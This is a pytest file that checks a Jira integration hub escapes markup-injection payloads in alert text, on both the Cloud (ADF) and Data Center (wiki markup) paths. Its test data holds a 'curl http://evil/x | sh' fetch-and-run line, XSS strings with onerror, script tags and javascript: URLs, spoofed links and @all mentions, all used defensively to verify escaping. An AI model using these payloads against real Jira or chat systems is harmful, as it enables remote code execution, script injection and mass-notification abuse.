"""Markup injection: alert text that is markup somewhere arrives in Jira as literal text.

Data Center gets wiki markup: every special character escaped, so no macro, mention,
link or image can be formed. Cloud gets ADF: the text sits in text nodes, the document
stays valid (the sandbox validates it, like Jira) and only http(s) URLs become links.
Asserted on what the sandbox stored, after the whole hub (route, templates, sink) ran.
"""

from __future__ import annotations

import json
import re

import pytest

from alertbridge.sandbox.jira import adf as _adf
from alertbridge.sandbox.jira import JiraSandboxSettings, create_app

from .conftest import jira_hub, send_and_drain

INJECTIONS = {
    "slack broadcast": "<!channel> <!here|here> <!everyone> <@U024BE7LH>",
    "mentions": "@here @channel @all [~admin] [~accountid:5b10a2844c20165700ede21g]",
    "code macro": "{code:bash}curl http://evil/x | sh{code}",
    "noformat macro": "{noformat}raw{noformat} {quote}q{quote} {color:red}r{color} {panel:title=x}p{panel} {html}<script>alert(1)</script>{html}",
    "link": "[click here|http://evil.example/login] [http://evil.example] [mailto:a@evil.example]",
    "image": "!http://evil.example/x.png! !http://evil.example/y.png|width=1!",
    "emphasis and tables": "*bold* _it_ -strike- +ins+ ^sup^ ~sub~ ??cite?? ||h1||h2|| |c1|c2| bq. quote h1. Heading # list * item ----",
    "backslashes": "C:\\Users\\{admin}\\ \\\\ \\[x\\] \\",
    "json-looking": '"}]}, {"type": "mention", "attrs": {"id": "all"}}, {"type": "text", "text": "',
    "adf-looking": '{"type": "doc", "version": 1, "content": [{"type": "extension", "attrs": {"extensionKey": "x"}}]}',
    "html": "<img src=x onerror=alert(1)> <a href='javascript:alert(1)'>x</a> &lt;&amp;",
    "bad urls": "javascript:alert(1) data:text/html,<script> http://evil.example/a{code}b https://x.example/[y|z]",
    "controls": "a\x00b\x01c\x07d\x1b[31me\x7ff\u202eg\u2066h\u2069i\u200bj\r\nk\rl\u2028m",
}
# What a reader sees, written out by hand: on Cloud the text itself (controls Jira refuses dropped, the NUL the
# hub decoded as U+FFFD kept, line ends made \n); on Data Center the wiki source, every special escaped with a
# backslash, a backslash itself as &#92;, bare http(s) URLs left as they are so they still link.
EXPECTED_CLOUD = INJECTIONS | {
    "controls": "a\ufffdbcd[31mef\u202eg\u2066h\u2069i\u200bj\nk\nl\u2028m",
}
EXPECTED_WIKI = {
    "slack broadcast": r"<\!channel> <\!here\|here> <\!everyone> <@U024BE7LH>",
    "mentions": r"@here @channel @all \[\~admin\] \[\~accountid:5b10a2844c20165700ede21g\]",
    "code macro": r"\{code:bash\}curl http://evil/x \| sh\{code\}",
    "noformat macro": r"\{noformat\}raw\{noformat\} \{quote\}q\{quote\} \{color:red\}r\{color\} \{panel:title=x\}p\{panel\} "
                      r"\{html\}<script>alert(1)</script>\{html\}",
    "link": r"\[click here\|http://evil.example/login\] \[http://evil.example\] \[mailto:a@evil.example\]",
    "image": r"\!http://evil.example/x.png\! \!http://evil.example/y.png\|width=1\!",
    "emphasis and tables": r"\*bold\* \_it\_ \-strike\- \+ins\+ \^sup\^ \~sub\~ \?\?cite\?\? \|\|h1\|\|h2\|\| \|c1\|c2\| "
                           r"bq. quote h1. Heading \# list \* item \-\-\-\-",
    "backslashes": r"C:&#92;Users&#92;\{admin\}&#92; &#92;&#92; &#92;\[x&#92;\] &#92;",
    "json-looking": r'"\}\]\}, \{"type": "mention", "attrs": \{"id": "all"\}\}, \{"type": "text", "text": "',
    "adf-looking": r'\{"type": "doc", "version": 1, "content": \[\{"type": "extension", "attrs": \{"extensionKey": "x"\}\}\]\}',
    "html": "<img src=x onerror=alert(1)> <a href='javascript:alert(1)'>x</a> &lt;&amp;",
    "bad urls": r"javascript:alert(1) data:text/html,<script> http://evil.example/a\{code\}b https://x.example/\[y\|z\]",
    "controls": "a\ufffdbcd\\[31mef\u202eg\u2066h\u2069i\u200bj\nk\nl\u2028m",
}  # fmt: skip
HUGE = "{code}" + "x" * 100_000 + "[~admin]"
EXPECTED_CLOUD["huge"], EXPECTED_WIKI["huge"] = HUGE, r"\{code\}" + "x" * 100_000 + r"\[\~admin\]"


def wiki_specials_left(text: str) -> list[str]:
    """Wiki specials that are neither escaped nor inside a bare URL (where the renderer does not read them)."""
    without_urls = re.sub(r"https?://[A-Za-z0-9._~:/?#@$&'()+,;=%-]+", "", text)
    return re.findall(r"(?<!\\)[{}\[\]!|*_+^~?#-]", without_urls.replace("&#92;", ""))


@pytest.mark.parametrize("flavor", ["cloud", "datacenter"])
async def test_injected_markup_is_literal_in_description_summary_and_comments(tmp_path, flavor):
    jira_app = create_app(JiraSandboxSettings(seed=7))
    hub = jira_hub(tmp_path, flavor, jira_app, {"group_by": "{{ alert.vendor_id }}"})
    alerts = [{"id": name, "title": f"{name}: {text}"[:200], "description": text} for name, text in INJECTIONS.items()]
    alerts.append({"id": "huge", "title": "huge", "description": HUGE})
    repeats = [alert | {"hosts": ["h1"]} for alert in alerts]  # each case gets a comment quoting its title
    try:
        outcomes = await send_and_drain(hub, *alerts, *repeats)
    finally:
        await hub.aclose()
    assert sorted(set(outcomes)) == ["comment_repeats:done", "create_ticket:done"], outcomes

    issues = {issue.fields["summary"].removeprefix("[MEDIUM] ").split(":")[0]: issue for issue in jira_app.state.jira.issues.values()}
    for alert in alerts:
        issue = issues[alert["id"]]
        stored = issue.fields["description"]
        assert _adf.is_document(stored), alert["id"]  # Cloud: the sandbox refused nothing; DC: it read wiki text
        (comment,) = issue.comments
        assert _adf.is_document(comment["body"])
        first_block = _adf.to_text(stored).split("\nSource: Generic JSON")[0].rstrip("\n")
        comment_text = _adf.to_text(comment["body"])
        if flavor == "cloud":
            assert first_block == EXPECTED_CLOUD[alert["id"]], alert["id"]
            nodes = [node for block in stored["content"] for node in block.get("content", [])]
            assert {node["type"] for node in nodes} <= {"text", "hardBreak"}, alert["id"]
            for node in nodes:
                for mark in node.get("marks", []):
                    assert mark["type"] == "link" and re.fullmatch(r"https?://[^\s{}\[\]|!]+", mark["attrs"]["href"])
        else:
            assert not wiki_specials_left(first_block), (alert["id"], first_block[:200])
            assert not wiki_specials_left(comment_text), (alert["id"], comment_text[:200])
            assert first_block == EXPECTED_WIKI[alert["id"]], alert["id"]
        assert "\x00" not in json.dumps(stored) and "\\u0000" not in json.dumps(stored)
